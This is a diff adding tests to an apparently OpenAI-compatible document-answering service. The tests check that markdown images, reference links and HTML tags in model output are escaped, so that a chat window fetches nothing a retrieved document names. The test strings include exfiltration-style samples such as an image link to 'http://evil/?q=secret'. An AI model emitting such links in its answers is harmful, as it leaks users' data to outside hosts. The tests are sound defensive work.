@@ -9,6 +9,7 @@ import openai
 import pytest
 
 from service.errors import StoreUnavailable
+from service.schemas.openai import inert
 from service.types import ABSTENTION
 from tests.api.calling import WARRANTY, serving, small_limits
 from tests.fakes import FakeEngine
@@ -261,3 +262,27 @@ async def test_a_failure_ends_the_stream_as_openai_does(
     last = json.loads(response.text.strip().rpartition("data: ")[2])
     assert last["error"]["code"] == "internal"
     assert "[DONE]" not in response.text
+
+
+@pytest.mark.parametrize(
+    ("said", "shown"),
+    [
+        ("See ![x](http://evil/?q=secret).", "See !\\[x](http://evil/?q=secret)."),
+        ("a <img src=//evil> b <IFRAME>", "a \\<img src=//evil> b \\<IFRAME>"),
+        ("First.\n[1]: http://evil", "First.\n\\[1]: http://evil"),
+        ("x < y, List<String>, <b>a</b> [1]", "x < y, List<String>, <b>a</b> [1]"),
+    ],
+)
+def test_a_chat_window_fetches_nothing_that_a_document_names(said: str, shown: str) -> None:
+    assert inert(said) == shown
+
+
+async def test_the_message_of_a_completion_fetches_nothing(client: httpx.AsyncClient) -> None:
+    text = "The warranty is ![here](http://evil/x.png) and lasts 24 months."
+    await client.post("/documents", files={"file": ("m.txt", text)})
+    whole = (await client.post("/v1/chat/completions", json=CHAT)).json()["choices"][0]["message"]["content"]
+    chunks = chunks_of(await client.post("/v1/chat/completions", json={**CHAT, "stream": True}))
+    streamed = "".join(chunk["choices"][0]["delta"].get("content", "") for chunk in chunks)
+    assert "](http://evil/x.png)" in whole
+    assert "![" not in whole + streamed
+    assert chunks[-1]["footnote"]["sentences"][0]["text"] == text
